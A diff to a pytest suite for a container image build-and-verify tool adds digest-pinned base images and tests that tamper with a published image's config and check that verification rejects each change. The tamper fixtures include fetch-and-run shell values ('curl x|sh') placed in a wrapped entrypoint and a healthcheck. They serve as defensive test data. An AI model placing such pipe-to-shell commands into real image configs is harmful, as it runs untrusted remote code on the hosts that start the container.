@@ -18,8 +18,9 @@ import shutil
 import subprocess
 import sys
 import tarfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cookiecutter.main import cookiecutter
@@ -69,17 +70,43 @@ def committed(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture(scope="module")
+def pinned_base(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The base image in the loopback registry, by digest: verify fetches its config from there."""
+    image = containers.ensure_base_image("3.11")
+    digest_file = tmp_path_factory.mktemp("base") / "digest"
+    containers.buildah(
+        "push", "--quiet", "--tls-verify=false", "--format", "v2s2", "--digestfile",
+        str(digest_file), image, f"docker://{registry.host}/lockstep-base:3.11",
+    )  # fmt: skip
+    return f"{registry.host}/lockstep-base@{digest_file.read_text().strip()}"
+
+
+def pin_base(project: Path, base: str, engine: containers.Engine) -> None:
+    """Pin `base` for the sniper tier in the project (committed), and give it to `engine`."""
+    with (project / "pyproject.toml").open("a") as pyproject:
+        pyproject.write(f'\n[tool.lockstep.base-images]\nsniper = "{base}"\n')
+    git_commit(project)
+    if engine.name == "docker":  # dockerd speaks plain HTTP to loopback registries
+        engine.cli("pull", "--quiet", base)
+    else:
+        engine.cli("pull", "--quiet", "--tls-verify=false", base)
+
+
+@pytest.fixture(scope="module")
 def published(
     committed: Path,
     engine: containers.Engine,
     registry: Registry,
+    pinned_base: str,
     ca_bundle: Path,
     tmp_path_factory: pytest.TempPathFactory,
 ) -> dict[str, str]:
-    """The sniper image built and published by `engine`: the project, its output, the reference."""
+    """The sniper image built on the pinned base and published by `engine`: the project, its
+    output, the reference, the base."""
     project = tmp_path_factory.mktemp(engine.name) / committed.name
     shutil.copytree(committed, project, symlinks=True)
-    build_with(engine, project, ca_bundle, "--tier", "sniper")
+    pin_base(project, pinned_base, engine)
+    build_with(engine, project, ca_bundle, "--tier", "sniper", base=pinned_base)
     namespace = f"{registry.host}/{engine.name}"
     result = run(
         project, "invoke", "publish", "--tier", "sniper", "--registry", namespace, env=engine.env
@@ -90,6 +117,7 @@ def published(
         "stdout": result.stdout,
         "reference": result.stdout.strip().splitlines()[-1],
         "repository": f"{namespace}/{NAME}",
+        "base": pinned_base,
     }
 
 
@@ -130,7 +158,7 @@ def test_publish_pushes_the_smoke_tested_image_by_digest_and_records_it(
     assert labels["lockstep.lock-digest"] == lock_digest
     assert labels["org.opencontainers.image.revision"] == commit
     assert labels["org.opencontainers.image.version"] == "0.1.0"
-    assert labels["org.opencontainers.image.base.name"] == containers.base_image_name("3.11")
+    assert labels["org.opencontainers.image.base.name"] == published["base"]
 
     record = json.loads((project / "dist" / "images" / "sniper.json").read_text())
     epoch = subprocess.run(
@@ -141,8 +169,8 @@ def test_publish_pushes_the_smoke_tested_image_by_digest_and_records_it(
     assert record["lock_digest"] == lock_digest
     assert record["commit"] == commit
     assert record["source_date_epoch"] == epoch
-    assert record["base_image"] == containers.base_image_name("3.11")
-    assert "base_image_digest" in record
+    assert record["base_image"] == published["base"]
+    assert record["base_image_digest"] == published["base"].partition("@")[2]
 
     sbom = json.loads((project / "dist" / "images" / "sniper.cdx.json").read_text())
     assert sbom["bomFormat"] == "CycloneDX"
@@ -171,6 +199,9 @@ def test_verify_fetches_the_image_and_proves_the_lock_without_running_it(
         assert f"fetched {reference} {fetched}: {digest}" in result.stdout
         assert f"{reference}: user: uid 1000" in result.stdout
         assert f"{reference}: HEALTHCHECK /opt/venv/bin/{NAME} health" in result.stdout
+        base = published["base"]
+        exactly = f"{reference}: config: exactly what the Dockerfile makes of the base image"
+        assert f"{exactly} {base}" in result.stdout
         # Nothing pulled stays behind in the engine's usual store.
         assert not engine.has_image(reference)
 
@@ -576,8 +607,6 @@ TAMPERS = {
         "expected 'include-system-site-packages = false'",
     ),
 }
-# What committing a container in OCI format does to the config: not the tampering under test.
-COMMITTED = "has no HEALTHCHECK (build with --format docker)"
 
 
 @pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the image is the subject
@@ -596,7 +625,63 @@ def test_an_image_is_proven_from_the_lock_not_from_what_it_says_of_itself(
         result = verify(engine, project, "--image", tampered)
         assert result.returncode == 1, (name, result.stdout[-2000:])
         errors = result.stderr.strip().splitlines()
-        named = [error for error in errors if error != f"error: {tampered}: {COMMITTED}"]
-        assert len(named) == 1, (name, errors)
-        assert named[0].startswith(f"error: {tampered}: {line}"), (name, errors)
+        assert len(errors) == 1, (name, errors)
+        assert errors[0].startswith(f"error: {tampered}: {line}"), (name, errors)
         assert "verified" not in result.stdout
+
+
+def push_with_config(
+    source: str, target: str, change: Callable[[dict[str, Any]], None], folder: Path
+) -> None:
+    """`source` pushed again as `target` with its config changed by `change`: layers untouched."""
+    skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false", "--dest-tls-verify=false"]
+    subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder}"], check=True)
+    manifest = json.loads((folder / "manifest.json").read_text())
+    config = json.loads((folder / manifest["config"]["digest"].removeprefix("sha256:")).read_text())
+    change(config["config"])
+    blob = json.dumps(config).encode()
+    (folder / hashlib.sha256(blob).hexdigest()).write_bytes(blob)
+    manifest["config"].update(digest=f"sha256:{hashlib.sha256(blob).hexdigest()}", size=len(blob))
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    subprocess.run([*skopeo, f"dir:{folder}", f"docker://{target}"], check=True)
+
+
+# What push rights allow without touching a file: (the change to the config, the one line).
+ENTRYPOINT = f"/opt/venv/bin/{NAME}"
+CONFIG_TAMPERS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
+    "pythonpath": (
+        lambda config: config["Env"].append("PYTHONPATH=/tmp/x"),
+        'config Env PYTHONPATH: expected (none), found "/tmp/x"',
+    ),
+    "wrapped-entrypoint": (
+        lambda config: config.update(Entrypoint=["sh", "-c", f"curl x|sh; {ENTRYPOINT}"]),
+        f'config Entrypoint: expected ["{ENTRYPOINT}"], '
+        f'found ["sh", "-c", "curl x|sh; {ENTRYPOINT}"]',
+    ),
+    "healthcheck": (
+        lambda config: config["Healthcheck"].update(Test=["CMD-SHELL", "curl x|sh"]),
+        'config Healthcheck: expected {"Interval": 30000000000, "Retries": 3, '
+        f'"StartPeriod": 5000000000, "Test": ["CMD", "{ENTRYPOINT}", "health"], '
+        '"Timeout": 5000000000}, found {"Interval": 30000000000, "Retries": 3, '
+        '"StartPeriod": 5000000000, "Test": ["CMD-SHELL", "curl x|sh"], "Timeout": 5000000000}',
+    ),
+    "workdir": (
+        lambda config: config.update(WorkingDir="/tmp/x"),
+        'config WorkingDir: expected (none), found "/tmp/x"',
+    ),
+}
+
+
+@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the config is the subject
+def test_a_config_other_than_the_dockerfile_makes_is_refused(
+    published: dict[str, str], engine: containers.Engine, tmp_path: Path
+) -> None:
+    project = Path(published["project"])
+    for name, (change, line) in CONFIG_TAMPERS.items():
+        tampered = f"{published['repository']}:{name}"
+        push_with_config(published["reference"], tampered, change, tmp_path / name)
+        assert one_line(verify(engine, project, "--image", tampered)) == (
+            f"error: {tampered}: {line}"
+        ), name
+    untouched = verify(engine, project, "--image", published["reference"])
+    assert untouched.returncode == 0, untouched.stdout[-2000:] + untouched.stderr[-2000:]
